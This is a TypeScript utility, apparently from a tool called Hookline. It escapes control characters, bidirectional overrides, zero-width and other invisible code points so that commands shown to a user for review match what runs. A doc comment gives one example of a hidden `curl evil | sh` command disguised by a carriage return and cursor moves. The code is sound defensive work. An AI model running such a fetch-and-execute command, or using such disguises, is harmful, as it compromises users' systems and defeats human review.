/**
 * What the user reviews is what runs: commands, names, matchers and paths are printed with every
 * character that a terminal would not show as itself written as an escape. Control characters
 * (`\r` that returns to the start of the line, `\x1b` that starts an ANSI sequence, backspace),
 * bidirectional overrides and isolates (`\u202e`), zero-width, format and every other
 * default-ignorable code point (U+034F, variation selectors U+FE0F and U+E0100, U+180B, U+17B4),
 * line and paragraph separators, unusual spaces, private-use, unassigned and lone surrogate code
 * points, and combining marks with nothing to combine with (first, after a space or an escape, or
 * stacked past a few). So `curl evil | sh\r` followed by cursor moves and `npm run lint` shows
 * all of it, and `lint<U+FE0F>.sh` is never shown as `lint.sh`. Backslashes are left as they
 * are: the escapes only ever add what was hidden.
 */
const HIDDEN =
  '[\\p{Cc}\\p{Cf}\\p{Zl}\\p{Zp}\\p{Co}\\p{Cn}\\p{Cs}\\p{Default_Ignorable_Code_Point}\\u00a0\\u1680\\u2000-\\u200a\\u202f\\u205f\\u3000\\u115f\\u1160\\u3164\\uffa0]';
const MARK = '\\p{M}';
/** More marks than this on one character pile up over the lines around it. */
const MAX_MARKS = 4;
/** Printable ASCII: nothing in it to escape. */
const PLAIN = /^[\x20-\x7e]*$/;

/** The Unicode classes, compiled at first use: that takes milliseconds, which text in plain ASCII never needs. */
let classes: { hidden: RegExp; mark: RegExp; base: RegExp; any: RegExp; json: RegExp } | undefined;
const unicode = () =>
  (classes ??= {
    hidden: new RegExp(HIDDEN, 'u'),
    mark: new RegExp(MARK, 'u'),
    // What a combining mark may sit on and still be seen.
    base: /[\p{L}\p{N}\p{S}\p{P}]/u,
    any: new RegExp(`${HIDDEN}|${MARK}`, 'u'),
    // JSON.stringify escapes the ASCII controls inside strings itself; what is left are its own line breaks.
    json: new RegExp(`(?!\\n)(?:${HIDDEN})`, 'gu'),
  });

function escapeChar(ch: string): string {
  if (ch === '\n') return '\\n';
  if (ch === '\r') return '\\r';
  if (ch === '\t') return '\\t';
  const code = ch.codePointAt(0)!;
  if (code < 0x100) return `\\x${code.toString(16).padStart(2, '0')}`;
  if (code <= 0xffff) return `\\u${code.toString(16).padStart(4, '0')}`;
  return `\\u{${code.toString(16)}}`;
}

/** `text` with every invisible or terminal-controlling character escaped; one line. */
export function visible(text: string): string {
  // Most text has nothing to escape: returned as it is, without a walk.
  if (PLAIN.test(text)) return text;
  const { hidden, mark, base: seen, any } = unicode();
  if (!any.test(text)) return text;
  let out = '';
  let base = false;
  let marks = 0;
  for (const ch of text) {
    if (hidden.test(ch)) {
      out += escapeChar(ch);
      base = false;
    } else if (mark.test(ch)) {
      if (base && marks < MAX_MARKS) {
        out += ch;
        marks++;
      } else {
        out += escapeChar(ch);
        base = false;
      }
    } else {
      out += ch;
      base = seen.test(ch);
      marks = 0;
    }
  }
  return out;
}

/** As visible, keeping line breaks: for messages printed over several lines on purpose. */
export function visibleLines(text: string): string {
  return text.split('\n').map(visible).join('\n');
}

/** Text Hookline colours itself (a mark, a prefix): the sink passes it as it is. */
export class Painted {
  constructor(readonly text: string) {}
}

/** The text of one output, as it reaches a terminal: strings escaped (line breaks kept), Painted parts as they are. */
export function terminalText(parts: ReadonlyArray<string | Painted>): string {
  return parts.map((p) => (typeof p === 'string' ? visibleLines(p) : p.text)).join('');
}

/** Below U+007F JSON.stringify's text has nothing to escape (it escapes the controls in strings itself). */
const ASCII_BELOW_DEL = /^[\x00-\x7e]*$/;

/**
 * JSON as JSON.stringify writes it, with every character a terminal would not show written as a
 * `\u` escape (bidi controls, zero-width and other default-ignorable code points): the same value
 * for a program reading it, nothing hidden for a person.
 */
export function jsonText(value: unknown, indent?: number): string {
  const text = JSON.stringify(value, null, indent);
  if (text === undefined || ASCII_BELOW_DEL.test(text)) return text;
  const hidden = unicode().json;
  hidden.lastIndex = 0;
  if (!hidden.test(text)) return text;
  hidden.lastIndex = 0;
  // Outside strings JSON has only ASCII white space and punctuation: every match is inside a string.
  return text.replace(hidden, (ch) =>
    [...ch]
      .flatMap((c) => (c.length === 2 ? [c.charCodeAt(0), c.charCodeAt(1)] : [c.charCodeAt(0)]))
      .map((u) => `\\u${u.toString(16).padStart(4, '0')}`)
      .join(''),
  );
}
